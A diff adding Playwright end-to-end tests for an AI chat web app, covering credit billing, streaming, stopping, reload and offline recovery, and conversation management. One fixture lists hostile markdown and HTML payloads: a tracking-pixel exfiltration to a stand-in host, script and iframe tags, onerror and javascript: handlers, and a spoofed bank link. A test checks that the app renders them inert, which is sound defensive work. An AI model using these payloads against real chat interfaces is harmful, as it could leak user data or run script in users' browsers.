@@ -1,0 +1,257 @@
+import type { Page } from '@playwright/test'
+import { createAccount, holdCredit } from './support/account'
+import { expect, test } from './support/test'
+
+const CANARY = 'canary.invalid'
+const HOSTILE = [
+  `![pixel](https://${CANARY}/pixel.png?q=secret)`,
+  `<img src="https://${CANARY}/raw.png" onerror="alert(1)">`,
+  '<script>alert(2)</script>',
+  '[click](javascript:alert(3))',
+  `[https://bank.example](https://${CANARY}/login)`,
+  `<iframe src="https://${CANARY}/frame"></iframe>`,
+].join('\n\n')
+
+async function ask(page: Page, text: string) {
+  await page.getByRole('textbox', { name: 'Message' }).fill(text)
+  await page.getByRole('button', { name: 'Send' }).click()
+}
+
+function answerOn(page: Page) {
+  return page.getByRole('article', { name: 'Assistant message' })
+}
+
+test('without credit the message stays where it was typed, and nothing is asked', async ({
+  page,
+  upstream,
+}) => {
+  await page.goto('/')
+  await ask(page, 'What does this cost?')
+  await expect(page.getByText('Your balance does not reach')).toBeVisible()
+  await page.reload()
+  await expect(page.getByRole('textbox', { name: 'Message' })).toHaveValue('What does this cost?')
+  await page.getByRole('button', { name: 'Send' }).click()
+  await page.getByRole('link', { name: 'Add credit' }).click()
+  await expect(page).toHaveURL(/\/top-up\?return=/)
+  await page.goBack()
+  await expect(page.getByRole('textbox', { name: 'Message' })).toHaveValue('What does this cost?')
+  expect((await upstream.requests()).filter(({ path }) => path === '/chat/completions')).toEqual([])
+})
+
+test('a balance that is too small brings the message back, with both amounts', async ({ page, request }) => {
+  const account = await createAccount(request, 0.1)
+  await holdCredit(page, account.creditId)
+  await page.goto('/')
+  await page.getByRole('button', { name: 'Model' }).click()
+  await page.getByRole('combobox').fill('large')
+  await page.keyboard.press('Enter')
+  const long = 'word '.repeat(20_000)
+  await ask(page, long)
+  await expect(page.getByText('Your balance does not reach')).toBeVisible()
+  await expect(page.getByText('$0.10', { exact: true }).last()).toBeVisible()
+  await expect(page.getByRole('textbox', { name: 'Message' })).toHaveValue(long)
+  await expect(answerOn(page)).toHaveCount(0)
+})
+
+test('an answer that fails costs nothing, says so, and can be asked for again', async ({
+  page,
+  funded,
+  balance,
+  upstream,
+}) => {
+  await upstream.setScript({ chat: { status: 500, body: { error: { message: 'broken' } } } })
+  await page.goto('/')
+  await ask(page, 'Are you there?')
+  await expect(answerOn(page)).toContainText('$0.00 — you were not charged')
+  await expect(page.getByRole('article', { name: 'Your message' })).toContainText('Are you there?')
+  expect(await balance(funded)).toBe(1)
+
+  await upstream.setScript({ chat: { steps: [{ type: 'text', text: 'Here I am.' }] } })
+  await page.getByRole('button', { name: 'Try again' }).click()
+  await expect(answerOn(page)).toHaveCount(1)
+  await expect(answerOn(page)).toContainText('Here I am.')
+})
+
+test('an answer appears while it is written and ends with its price', async ({
+  page,
+  funded,
+  balance,
+  upstream,
+}) => {
+  const steps = [
+    { type: 'text', text: 'First half' } as const,
+    { type: 'gate', name: 'rest' } as const,
+    { type: 'text', text: ' and **second** half.' } as const,
+  ]
+  await upstream.setScript({ chat: { steps, promptTokens: 10 } })
+  await page.goto('/')
+  await ask(page, 'Two halves, please')
+  await expect(answerOn(page)).toContainText('First half')
+  await expect(page.getByRole('button', { name: 'Stop' })).toBeVisible()
+  await upstream.openGate('rest')
+  await expect(answerOn(page).locator('strong')).toHaveText('second')
+  // 10 tokens in at $1 and 2 out at $2 a million.
+  await expect(answerOn(page)).toContainText('$0.000014')
+  expect(await balance(funded)).toBe(0.999986)
+  await expect(page.getByRole('button', { name: 'Send' })).toBeVisible()
+})
+
+test('a stop keeps and charges what arrived, and ends the work', async ({
+  page,
+  funded,
+  balance,
+  upstream,
+}) => {
+  const steps = [{ type: 'text', text: 'So far' } as const, { type: 'hang' } as const]
+  await upstream.setScript({ chat: { steps } })
+  await page.goto('/')
+  await ask(page, 'Go on for ever')
+  await expect(answerOn(page)).toContainText('So far')
+  await page.getByRole('button', { name: 'Stop' }).click()
+  await expect(answerOn(page)).toContainText('Stopped.')
+  await expect(answerOn(page)).toContainText(/\$0\.0000\d/)
+  await expect(page.getByRole('button', { name: 'Send' })).toBeVisible()
+  expect(await balance(funded)).toBeLessThan(1)
+  await expect
+    .poll(
+      async () => (await upstream.requests()).findLast(({ path }) => path === '/chat/completions')?.abortedAt,
+    )
+    .not.toBeNull()
+})
+
+test('a reload in the middle of an answer loses nothing and pays once', async ({
+  page,
+  funded,
+  upstream,
+}) => {
+  expect(funded.creditId).not.toBe('')
+  const steps = [
+    { type: 'text', text: 'Before. ' } as const,
+    { type: 'gate', name: 'reloaded' } as const,
+    { type: 'text', text: 'After.' } as const,
+  ]
+  await upstream.setScript({ chat: { steps } })
+  await page.goto('/')
+  await ask(page, 'Survive this')
+  await expect(answerOn(page)).toContainText('Before.')
+  await page.reload()
+  await expect(answerOn(page)).toContainText('Before.')
+  await upstream.openGate('reloaded')
+  await expect(answerOn(page)).toContainText('Before. After.')
+  await expect(answerOn(page)).toContainText(/\$0\.0000\d/)
+  const asked = (await upstream.requests()).filter(({ path }) => path === '/chat/completions')
+  expect(asked).toHaveLength(1)
+})
+
+test('a lost network gets the rest of the answer when it is back', async ({
+  page,
+  context,
+  funded,
+  upstream,
+}) => {
+  expect(funded.creditId).not.toBe('')
+  const steps = [
+    { type: 'text', text: 'Before. ' } as const,
+    { type: 'gate', name: 'offline' } as const,
+    { type: 'text', text: 'After.' } as const,
+  ]
+  await upstream.setScript({ chat: { steps } })
+  await page.goto('/')
+  await ask(page, 'Survive this')
+  await expect(answerOn(page)).toContainText('Before.')
+  await context.setOffline(true)
+  await upstream.openGate('offline')
+  await context.setOffline(false)
+  await expect(answerOn(page)).toContainText('Before. After.')
+  const asked = (await upstream.requests()).filter(({ path }) => path === '/chat/completions')
+  expect(asked).toHaveLength(1)
+})
+
+test('a hostile answer reaches nobody and runs nothing', async ({ page, funded, upstream }) => {
+  expect(funded.creditId).not.toBe('')
+  const reached: string[] = []
+  page.on('request', request => {
+    if (request.url().includes(CANARY)) reached.push(request.url())
+  })
+  page.on('dialog', dialog => {
+    reached.push(dialog.message())
+    void dialog.dismiss()
+  })
+  await upstream.setScript({ chat: { steps: [{ type: 'text', text: HOSTILE }] } })
+  await page.goto('/')
+  await ask(page, 'Attack me')
+  await expect(answerOn(page)).toContainText('<script>alert(2)</script>')
+  await expect(answerOn(page)).toContainText(`(${CANARY})`)
+  await expect(answerOn(page).getByRole('link', { name: 'Load image' })).toBeVisible()
+  await expect(answerOn(page).locator('script, iframe, img')).toHaveCount(0)
+  expect(reached).toEqual([])
+})
+
+test('Shift and Enter makes a line, Enter sends', async ({ page, funded }) => {
+  expect(funded.creditId).not.toBe('')
+  await page.goto('/')
+  const box = page.getByRole('textbox', { name: 'Message' })
+  await box.pressSequentially('first')
+  await box.press('Shift+Enter')
+  await box.pressSequentially('second')
+  await expect(box).toHaveValue('first\nsecond')
+  await box.press('Enter')
+  await expect(page.getByRole('article', { name: 'Your message' })).toContainText('second')
+  await expect(box).toHaveValue('')
+})
+
+test('conversations can be found, renamed and deleted', async ({ page, funded }) => {
+  expect(funded.creditId).not.toBe('')
+  await page.goto('/')
+  await ask(page, 'All about herons')
+  await expect(answerOn(page)).toContainText('You said')
+  await page.getByRole('button', { name: 'New chat' }).click()
+  await expect(answerOn(page)).toHaveCount(0)
+  await ask(page, 'All about kestrels')
+  await expect(answerOn(page)).toContainText('kestrels')
+
+  const list = page.getByRole('navigation', { name: 'Conversations' })
+  await expect(list.getByRole('link')).toHaveText([/kestrels/, /herons/])
+  await list.getByRole('searchbox').fill('heron')
+  await expect(list.getByRole('link')).toHaveText([/herons/])
+  await list.getByRole('link').click()
+  await expect(answerOn(page)).toContainText('herons')
+  await list.getByRole('searchbox').fill('')
+
+  await list.getByRole('link', { name: /herons/ }).hover()
+  await list
+    .getByRole('listitem')
+    .filter({ hasText: 'herons' })
+    .getByRole('button', { name: 'Rename' })
+    .click()
+  await list.getByRole('textbox', { name: 'Title' }).fill('Long legs')
+  await page.keyboard.press('Enter')
+  await expect(list.getByRole('link', { name: 'Long legs' })).toBeVisible()
+
+  await list.getByRole('link', { name: 'Long legs' }).hover()
+  await list
+    .getByRole('listitem')
+    .filter({ hasText: 'Long legs' })
+    .getByRole('button', { name: 'Delete' })
+    .click()
+  await expect(list.getByRole('link')).toHaveText([/kestrels/])
+})
+
+test('a long answer is followed to its end, and the composer stays in reach @phone', async ({
+  page,
+  funded,
+  upstream,
+}) => {
+  expect(funded.creditId).not.toBe('')
+  const steps = [
+    { type: 'text', text: 'A paragraph of some length, so that it scrolls.\n\n', times: 60 } as const,
+  ]
+  await upstream.setScript({ chat: { steps: [...steps, { type: 'text', text: 'The end.' }] } })
+  await page.goto('/')
+  await ask(page, 'At length, please')
+  await expect(page.getByText('The end.')).toBeInViewport()
+  await expect(page.getByRole('textbox', { name: 'Message' })).toBeInViewport()
+  await page.getByText('At length, please').last().scrollIntoViewIfNeeded()
+  await page.getByRole('button', { name: 'Jump to latest' }).click()
+  await expect(page.getByText('The end.')).toBeInViewport()
+})
